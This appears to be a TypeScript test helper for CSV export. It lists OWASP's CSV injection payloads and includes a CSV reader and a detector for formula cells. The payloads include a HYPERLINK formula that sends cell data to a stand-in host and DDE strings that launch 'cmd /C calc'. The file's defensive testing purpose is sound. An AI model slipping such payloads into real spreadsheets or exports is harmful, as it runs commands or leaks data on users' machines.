/** OWASP's CSV injection payloads: a spreadsheet must show them, not run them. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://x?"&A1,"clic")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** Reads a CSV file as a spreadsheet would (RFC 4180 quoting, ";" separator, BOM ignored): rows of cells. */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const s = text.replace(/^\uFEFF/, "");
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") endCell();
    else if (c === "\n" || (c === "\r" && s[i + 1] === "\n")) {
      if (c === "\r") i++;
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** Cells a spreadsheet would evaluate as a formula (OWASP's list of first characters; plain numbers are numbers). */
export function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?$/.test(c));
}
